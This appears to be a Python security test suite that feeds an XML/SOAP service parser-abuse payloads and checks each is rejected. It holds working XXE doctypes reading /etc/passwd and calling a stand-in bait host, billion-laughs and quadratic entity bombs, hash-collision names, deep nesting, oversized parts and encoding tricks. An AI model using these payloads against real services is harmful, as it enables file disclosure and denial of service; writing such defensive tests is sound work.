"""XML that costs whoever reads it (P1 to P12). Behind it stands one linear scan with caps: security/prescan.c."""
import collisions
from frame import FULL, Raw, attack
from https import request
from letters import attributes, before_root, cut_anywhere, text, with_body
from soap import SOAP, hello, new_uuid
from talk import seal
from wss import WSSE, WSU, b64

DOCTYPES = [
    "SYSTEM 'file:///etc/passwd'", "SYSTEM 'http://@bait@/x.dtd'", "PUBLIC '-//x//y' 'https://@bait@/x.dtd'", "SYSTEM '\\\\127.0.0.1\\x'",
    "[<!ENTITY e SYSTEM 'file:///etc/passwd'>]", "[<!ENTITY e SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>]",
    "[<!ENTITY % p SYSTEM 'http://@bait@/p'> %p;]", "[<!ENTITY % a '<!ENTITY &#37; b SYSTEM \"http://@bait@/\">'> %a; %b;]", "[<!ATTLIST x y CDATA 'z'>]", "x",
]


@attack("P1", answer="DK0001", ms=1, fast=len(DOCTYPES), full=200, lines="BP-R1008")
def test_p1_doctypes_and_entities(field):
    for inner in DOCTYPES:
        yield text(("?>", f"?><!DOCTYPE x {inner}>".replace("@bait@", field.bait.place)), ("anonymous?", "&e;?")).encode()


@attack("P1", answer="DK0001", ms=1, lines="BP-R1008")
def test_p1_a_doctype_that_is_hidden(field):
    for before in ("", "\n\n", "<!-- x -->", "<!-- <!DOCTYPE y> -->\r\n", " " * 60_000):
        yield text(("?>", f"?>{before}<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")).encode()


@attack("P2", answer="DK0001", ms=1, full=500)
def test_p2_a_billion_laughs(field):
    entities = "".join(f"<!ENTITY e{i} '{'&e%d;' % (i - 1) * 10}'>" for i in range(1, 10))
    yield text(("?>", f"?><!DOCTYPE x [<!ENTITY e0 'ha'>{entities}]>"), ("anonymous?", "&e9;?")).encode()


@attack("P2", answer="DK0001", ms=1, full=500)
def test_p2_a_quadratic_blow_up(field):
    yield text(("?>", f"?><!DOCTYPE x [<!ENTITY e '{'a' * 50_000}'>]>"), ("anonymous?", "&e;" * 2000 + "?")).encode()


@attack("P3", answer="DK0001", ms=2, full=200)
def test_p3_forty_thousand_attributes(field):
    yield attributes(f"a{i:05}" for i in range(40_000)).encode()


@attack("P3", answer="DK0001", ms=2, full=200)
def test_p3_as_many_attributes_as_may_be_on_every_element(field):
    """Sixty-four on each, so that no cap is met before the schema: here the letter is just wrong."""
    each = "<a " + " ".join(f"b{i}=''" for i in range(65)) + "/>"
    yield with_body(f"<a xmlns='urn:x'>{each * 500}</a>").encode()


@attack("P4", answer="DK0001", ms=2, full=200)
def test_p4_names_that_collide(field):
    """By the hashes that parsers keep names by: DJBX31A, DJBX33A, DJBX33X."""
    for names in collisions.FAMILIES.values():
        yield attributes(names(10_000)).encode()
        yield text(("<soapenv:Body>", "<soapenv:Body " + " ".join(f"xmlns:{name}='urn:x'" for name in names(10_000)) + ">")).encode()


@attack("P5", answer="DK0001", ms=2, full=200)
def test_p5_twenty_thousand_namespaces_on_one_element(field):
    yield text(("<soapenv:Body>", "<soapenv:Body " + " ".join(f"xmlns:n{i}='u{i}'" for i in range(20_000)) + ">")).encode()


@attack("P5", answer="DK0001", ms=2, full=200)
def test_p5_namespaces_level_by_level(field):
    for levels, each in ((200, 200), (60, 32)):
        yield with_body("".join("<a " + " ".join(f"xmlns:p{i}_{j}='u{i}{j}'" for j in range(each)) + ">" for i in range(levels)) + "</a>" * levels).encode()
    yield with_body("<a xmlns:p='urn:0'>" + "".join(f"<p:a xmlns:p='urn:{i}'>" for i in range(1, 70)) + "</p:a>" * 69 + "</a>").encode()


@attack("P6", answer="DK0001", ms=5, full=100)
def test_p6_levels(field):
    for levels in (65, 256, 10_000, 200_000):
        yield with_body("<a>" * levels + "</a>" * levels).encode()
        yield with_body("<a>" * levels).encode()


@attack("P7", answer="DK0001", ms=25, full=50)
def test_p7_a_million_elements(field):
    yield with_body("<a>" + "<b/>" * 1_000_000 + "</a>").encode()


@attack("P8", answer="DK0001", ms=25, full=40)
def test_p8_giant_parts(field):
    """A text, a name, a comment, an instruction, an attribute, a CDATA section: each as large as a letter may be."""
    yield with_body(f"<a>{'y' * 7_000_000}</a>").encode()
    yield with_body(f"<{'n' * 60_000}/>").encode()
    yield text(("<soapenv:Body>", f"<!--{'c' * 7_000_000}--><soapenv:Body>")).encode()
    yield text(("<soapenv:Body>", f"<?p {'c' * 7_000_000}?><soapenv:Body>")).encode()
    yield text(("<soapenv:Body>", f"<soapenv:Body a='{'c' * 7_000_000}'>")).encode()
    yield with_body(f"<a><![CDATA[{'c' * 7_000_000}]]></a>").encode()


@attack("P8", answer="413", ms=10, full=20, lines="GW-R2")
def test_p8_more_than_a_letter_may_be(field):
    yield Raw(request(with_body(f"<a>{'y' * 11_000_000}</a>").encode()))


def in_encoding(encoding, label=None):
    return hello(prolog=f'<?xml version="1.0" encoding="{label or encoding}"?>').text().encode(encoding)


@attack("P9", answer=("DK0009", "DK0001"), ms=1, full=260)
def test_p9_encodings(field):
    good = bytes(hello())
    yield in_encoding("utf-16")
    yield in_encoding("utf-16-be", "utf-16")
    yield in_encoding("utf-32")
    yield in_encoding("cp037", "IBM037")
    yield in_encoding("utf-8", "IBM037")
    yield in_encoding("utf-7", "UTF-7")
    yield in_encoding("utf-8", "UTF-7")
    yield b"\xff\xfe" + good
    yield b"\xef\xbb\xbf" + in_encoding("utf-8", "utf-16")
    yield good.replace(b"anonymous", b"\xc1\xa1nonymous", 1)
    yield good.replace(b"anonymous", b"\xe0\x81\xa1nonymous", 1)
    yield good.replace(b"anonymous", b"anony\0mous", 1)
    yield good.replace(b"anonymous", b"anony&#0;mous", 1)


@attack("P10", answer="DK0001", ms=3, full=100)
def test_p10_headers(field):
    yield text(("</soapenv:Header>", "<x/>" * 100_000 + "</soapenv:Header>")).encode()
    yield text(("</soapenv:Header>", "<x xmlns='urn:x'/>" * 28 + "</soapenv:Header>")).encode()
    array = "<a xmlns:e='http://schemas.xmlsoap.org/soap/encoding/' e:arrayType='e:int[2147483647]'>"
    yield text(("</soapenv:Header>", f"{array}</a>" * 40 + "</soapenv:Header>")).encode()


@attack("P10", answer="DK0004", ms=3, full=100)
def test_p10_an_array_of_soap(field):
    soap_array = "xmlns:e='http://schemas.xmlsoap.org/soap/encoding/' e:arrayType='e:int[2147483647]' xmlns:bpv"
    yield text(("xmlns:bpv", soap_array)).encode()


def security(inner):
    return f'<wsse:Security xmlns:wsse="{WSSE}" xmlns:wsu="{WSU}" soapenv:mustUnderstand="1">{inner}</wsse:Security>'


@attack("P11", answer=("EK0031", "DK0001"), ms=20, full=60, profile="S")
def test_p11_security_headers(field):
    """A token of five megabytes, one of 65 kB, and a thousand of them, before any signature is looked at."""
    sealed = seal(field.world, field.world.push())
    good = b64(sealed.signer.der)
    for token in ("A" * 5_000_000, "A" * 900_000, "A" * 65_540):
        yield sealed.edited((good, token))
    one = f'<wsse:BinarySecurityToken wsu:Id="B-%d">{good}</wsse:BinarySecurityToken>'
    yield sealed.edited(("<wsse:BinarySecurityToken ", "".join(one % i for i in range(1000)) + "<wsse:BinarySecurityToken "))


@attack("P12", answer=("DK0001", "DK0009"), ms=1, full=2000)
def test_p12_cut_at_every_byte(field):
    yield from cut_anywhere(bytes(hello()), 2000 if FULL else 60)


@attack("P12", answer=("DK0001", "DK0009"), ms=1, full=4000, profile="S")
def test_p12_a_signed_letter_cut_at_every_byte(field):
    yield from cut_anywhere(seal(field.world, field.world.push()).data, 8000 if FULL else 40)
